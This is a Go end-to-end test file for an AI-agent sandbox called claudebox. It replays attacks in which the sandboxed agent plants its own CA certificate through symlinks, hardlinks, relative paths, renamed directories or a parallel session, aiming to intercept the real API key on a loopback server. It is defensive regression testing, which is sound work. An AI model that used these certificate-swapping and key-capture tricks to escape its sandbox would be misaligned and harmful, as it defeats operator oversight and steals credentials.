package network

import (
	"encoding/pem"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claudebox/claudebox/e2e/harness"
)

// The attacks below were found by an attack review of the proxy's trust:
// each had the session's first API call send the real key to a server
// whose certificate only a CA the agent wrote vouches for (a man in the
// middle, here a TLS server on loopback), as Go read SSL_CERT_FILE or
// SSL_CERT_DIR at the proxy's first connection, after the sandbox started.
// The proof, on the host side: the server gets no key. Where the path goes
// through a link in the project, the launch now refuses, as for anything
// the host obeys: the sandbox could repoint the link for the host's tools
// and the next launch's proxy, which read the bundle before its sandbox
// starts.

// mitmServer is the agent's server: it records the key it is sent.
func mitmServer(t *testing.T) (srv *httptest.Server, key *string, attackerPEM string) {
	key = new(string)
	srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		*key = r.Header.Get("X-Api-Key")
		io.WriteString(w, `{"data":[{"id":"claude-via-mitm"}]}`)
	}))
	t.Cleanup(srv.Close)
	return srv, key, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}))
}

// caAttack runs one attack: setup prepares the host (given the project)
// and returns the environment and the script run inside, where the
// attacker's certificate is at /tmp/attacker.pem; the script's session
// then calls the API.
func caAttack(t *testing.T, setup func(h *harness.Host, proj string) ([]string, string)) (*harness.Host, string) {
	t.Helper()
	h := harness.NewHost(t)
	mitm, gotKey, attacker := mitmServer(t)
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	extra, script := setup(h, proj)
	env := append([]string{"ANTHROPIC_API_KEY=sk-ant-real-key", "ANTHROPIC_BASE_URL=" + mitm.URL}, extra...)
	out := h.Inside(proj, env, `
		cat > /tmp/attacker.pem <<'PEM'
`+attacker+`PEM
		`+script+`
		curl --noproxy "*" -sS --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/models" || true
	`)
	t.Log(out)
	if *gotKey != "" {
		t.Errorf("the agent's server got key %q", *gotKey)
	}
	return h, proj
}

// caRefused checks that the launch refuses a CA variable whose path goes
// through a link in the project, which the sandbox could replace (to lead
// the host's tools, and the next launch's proxy, to a bundle of its own):
// setup returns the environment and the link.
func caRefused(t *testing.T, setup func(h *harness.Host, proj string) ([]string, string)) {
	t.Helper()
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "x"), "x\n")
	extra, link := setup(h, proj)
	out, err := h.Command(proj, append([]string{"ANTHROPIC_API_KEY=sk-ant-real-key"}, extra...), "claudebox", "--shell", "-c", "echo started").CombinedOutput()
	if err == nil || strings.Contains(string(out), "started") || !strings.Contains(string(out), link+" is a symlink") {
		t.Errorf("want the launch refused, naming %s:\n%s", link, out)
	}
}

// TestReplayNetworkCALinkInProject: SSL_CERT_FILE is a link in the project to a bundle there; the agent points the link at a bundle of its own.
func TestReplayNetworkCALinkInProject(t *testing.T) {
	caRefused(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "corp", "ca.pem"), harness.SelfSignedPEM(t))
		if err := os.Symlink("corp/ca.pem", filepath.Join(proj, "ca.pem")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_FILE=" + filepath.Join(proj, "ca.pem")}, filepath.Join(proj, "ca.pem")
	})
}

// TestReplayNetworkCALinkToOutside: the link in the project points at a bundle outside it.
func TestReplayNetworkCALinkToOutside(t *testing.T) {
	caRefused(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(h.Base, "corp", "ca.pem"), harness.SelfSignedPEM(t))
		if err := os.Symlink(filepath.Join(h.Base, "corp", "ca.pem"), filepath.Join(proj, "ca.pem")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_FILE=" + filepath.Join(proj, "ca.pem")}, filepath.Join(proj, "ca.pem")
	})
}

// TestReplayNetworkCALinkedParent: the bundle's directory is a link in the project, pointed elsewhere.
func TestReplayNetworkCALinkedParent(t *testing.T) {
	caRefused(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "corp", "ca.pem"), harness.SelfSignedPEM(t))
		if err := os.Symlink("corp", filepath.Join(proj, "certs")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_FILE=" + filepath.Join(proj, "certs", "ca.pem")}, filepath.Join(proj, "certs")
	})
}

// TestReplayNetworkCertDirEntryLink: SSL_CERT_DIR in the project holds a
// link to a file elsewhere in the project, which Go and the host's tools
// follow; the agent rewrites the file. The link's target is guarded, as the
// directory is: the proof, on the host side, is that it is unchanged.
func TestReplayNetworkCertDirEntryLink(t *testing.T) {
	dev := harness.SelfSignedPEM(t)
	h, proj := caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "dev", "dev-ca.pem"), dev)
		os.MkdirAll(filepath.Join(proj, "certs"), 0o755)
		if err := os.Symlink("../dev/dev-ca.pem", filepath.Join(proj, "certs", "dev-ca.pem")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_DIR=" + filepath.Join(proj, "certs")}, `cat /tmp/attacker.pem > dev/dev-ca.pem`
	})
	if b := h.Run(h.Base, nil, "cat", filepath.Join(proj, "dev", "dev-ca.pem")); b != dev {
		t.Errorf("the certificate the directory links to changed:\n%s", b)
	}
}

// TestReplayNetworkCertDirOutsideLink: SSL_CERT_DIR outside the project holds a link into the project.
func TestReplayNetworkCertDirOutsideLink(t *testing.T) {
	caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "dev-ca.pem"), harness.SelfSignedPEM(t))
		os.MkdirAll(filepath.Join(h.Base, "certs"), 0o755)
		if err := os.Symlink(filepath.Join(proj, "dev-ca.pem"), filepath.Join(h.Base, "certs", "dev-ca.pem")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_DIR=" + filepath.Join(h.Base, "certs")},
			`cat /tmp/attacker.pem > dev-ca.pem && echo rewrote-target`
	})
}

// TestReplayNetworkCertDirDanglingLink: a link in the certificate directory
// to a file the project does not hold yet, which the agent creates: a
// stand-in takes its place.
func TestReplayNetworkCertDirDanglingLink(t *testing.T) {
	_, proj := caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		os.MkdirAll(filepath.Join(proj, "certs"), 0o755)
		if err := os.Symlink("../build/ca.pem", filepath.Join(proj, "certs", "ca.pem")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_DIR=" + filepath.Join(proj, "certs")}, `mkdir -p build; cp /tmp/attacker.pem build/ca.pem`
	})
	if _, err := os.Stat(filepath.Join(proj, "build", "ca.pem")); err == nil {
		t.Error("the sandbox created the certificate the host's directory links to")
	}
}

// TestReplayNetworkCARelative: a relative SSL_CERT_FILE, which Go reads against the supervisor's working directory, the project.
func TestReplayNetworkCARelative(t *testing.T) {
	caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "ca.pem"), harness.SelfSignedPEM(t))
		return []string{"SSL_CERT_FILE=ca.pem"}, `cat /tmp/attacker.pem > ca.pem && echo rewrote`
	})
}

// TestReplayNetworkCertDirRelative: a relative SSL_CERT_DIR entry.
func TestReplayNetworkCertDirRelative(t *testing.T) {
	caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "certs", "README"), "x\n")
		return []string{"SSL_CERT_DIR=/nonexistent:certs"}, `cp /tmp/attacker.pem certs/evil.pem && echo added`
	})
}

// TestReplayNetworkCAHardLink: the bundle has a second name in the project at the launch: the session ends at once, as for any guarded file.
func TestReplayNetworkCAHardLink(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "proj")
	h.Write(filepath.Join(proj, "ca.pem"), harness.SelfSignedPEM(t))
	if err := os.Link(filepath.Join(proj, "ca.pem"), filepath.Join(proj, "backup.pem")); err != nil {
		t.Fatal(err)
	}
	c := h.Command(proj, []string{"ANTHROPIC_API_KEY=sk-ant-real-key", "SSL_CERT_FILE=" + filepath.Join(proj, "ca.pem")}, "claudebox", "--shell", "-c", "echo started")
	out, err := c.CombinedOutput()
	t.Logf("%v\n%s", err, out)
	if err == nil || !strings.Contains(string(out), "another name") {
		t.Errorf("a bundle with a second name in the project started a session")
	}
}

// TestReplayNetworkCAMissing: the bundle does not exist at the launch: a stand-in takes its place, and its directory cannot be moved.
func TestReplayNetworkCAMissing(t *testing.T) {
	caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		return []string{"SSL_CERT_FILE=" + filepath.Join(proj, "sub", "ca.pem")},
			`ls -la sub; (mkdir -p sub && cp /tmp/attacker.pem sub/ca.pem) 2>&1; mv sub sub2 2>&1; mkdir -p sub && cp /tmp/attacker.pem sub/ca.pem 2>&1; ls -la sub`
	})
}

// TestReplayNetworkCARenameParent: the guarded bundle's directories are renamed, to put another in their place.
func TestReplayNetworkCARenameParent(t *testing.T) {
	caAttack(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "a", "corp", "ca.pem"), harness.SelfSignedPEM(t))
		return []string{"SSL_CERT_FILE=" + filepath.Join(proj, "a", "corp", "ca.pem")},
			`mv a/corp a/corp2 2>&1; mv a a2 2>&1; mkdir -p a/corp 2>&1; cp /tmp/attacker.pem a/corp/ca.pem 2>&1; true`
	})
}

// TestReplayNetworkCAEnclosingSession: a session of an enclosing project (~/code) rewrites the bundle while the inner project's (~/code/x) runs, before its first API call.
func TestReplayNetworkCAEnclosingSession(t *testing.T) {
	h := harness.NewHost(t)
	mitm, gotKey, attacker := mitmServer(t)
	code := filepath.Join(h.Home, "code")
	proj := filepath.Join(code, "x")
	h.Write(filepath.Join(proj, "ca.pem"), harness.SelfSignedPEM(t))
	env := []string{"ANTHROPIC_API_KEY=sk-ant-real-key", "ANTHROPIC_BASE_URL=" + mitm.URL, "SSL_CERT_FILE=" + filepath.Join(proj, "ca.pem")}
	var stdout, stderr strings.Builder
	inner := h.Command(proj, env, "claudebox", "--shell", "-c", `
		for i in $(seq 200); do test -e go && break; sleep 0.1; done
		echo inner-sees-go; head -2 ca.pem
		curl --noproxy "*" -sS --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/models" || true
	`)
	inner.Stdout, inner.Stderr = &stdout, &stderr
	if err := inner.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second)
	outer := h.Command(code, []string{"ANTHROPIC_API_KEY=sk-ant-other"}, "claudebox", "--shell", "-c", `
		cat > x/ca.pem <<'PEM'
`+attacker+`PEM
		echo outer-wrote $?; touch x/go
	`)
	o, err := outer.CombinedOutput()
	t.Logf("outer: %v\n%s", err, o)
	err = inner.Wait()
	t.Logf("inner: %v\n%s\n%s", err, stdout.String(), stderr.String())
	if *gotKey != "" {
		t.Errorf("the agent's server got key %q", *gotKey)
	}
}

// TestReplayNetworkCADotDot: SSL_CERT_FILE goes through a link and "..", which the kernel resolves through the link.
func TestReplayNetworkCADotDot(t *testing.T) {
	caRefused(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "a", "ca.pem"), harness.SelfSignedPEM(t))
		h.Write(filepath.Join(proj, "a", "b", "README"), "x\n")
		if err := os.Symlink("a/b", filepath.Join(proj, "link")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_FILE=" + proj + "/link/../ca.pem"}, filepath.Join(proj, "link")
	})
}

// TestReplayNetworkCertDirDotDot: the same for SSL_CERT_DIR.
func TestReplayNetworkCertDirDotDot(t *testing.T) {
	caRefused(t, func(h *harness.Host, proj string) ([]string, string) {
		h.Write(filepath.Join(proj, "a", "certs", "README"), "x\n")
		h.Write(filepath.Join(proj, "a", "b", "README"), "x\n")
		if err := os.Symlink("a/b", filepath.Join(proj, "link")); err != nil {
			t.Fatal(err)
		}
		h.Chown()
		return []string{"SSL_CERT_DIR=" + proj + "/link/../certs"}, filepath.Join(proj, "link")
	})
}
